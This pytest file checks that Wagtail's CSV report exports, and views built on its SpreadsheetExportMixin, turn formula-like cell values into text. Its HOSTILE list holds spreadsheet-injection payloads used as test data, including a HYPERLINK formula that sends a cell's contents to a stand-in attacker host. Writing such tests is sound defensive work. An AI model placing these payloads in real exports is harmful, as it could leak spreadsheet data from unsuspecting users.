"""Wagtail's own csv exports (its reports and any listing built on its SpreadsheetExportMixin) never
hand a spreadsheet a live formula: a title, name or note typed as "=..." arrives as text."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and "text/csv" in response["Content-Type"]
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def hostile_pages():
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    home = Page.objects.get(depth=2)
    pages = []
    for title in HOSTILE:
        page = home.add_child(instance=Page(title=title, slug=f"p{len(pages)}", live=True,
                                            last_published_at=timezone.now()))
        page.locked, page.locked_by, page.locked_at = True, admin, timezone.now()
        page.save()
        pages.append(page)
    return admin, pages


@pytest.mark.parametrize("report", ["wagtailadmin_reports:locked_pages", "wagtailadmin_reports:aging_pages"])
def test_wagtail_report_csv_cells_are_never_formulas(client, hostile_pages, report):
    admin, _pages = hostile_pages
    client.force_login(admin)
    rows = _rows(client.get(reverse(report), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    for title in HOSTILE:
        assert "'" + title in cells, title
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_guard_covers_every_view_built_on_the_mixin():
    class Listing(SpreadsheetExportMixin):
        list_export = ["title", "count"]

    writer = csv.DictWriter(_Echo(), fieldnames=Listing.list_export)
    line = Listing().write_csv_row(writer, {"title": "=1+1", "count": -3})
    assert line == "'=1+1,-3\r\n"  # text is quoted; a real number stays a number


class _Echo:
    def write(self, value):
        return value
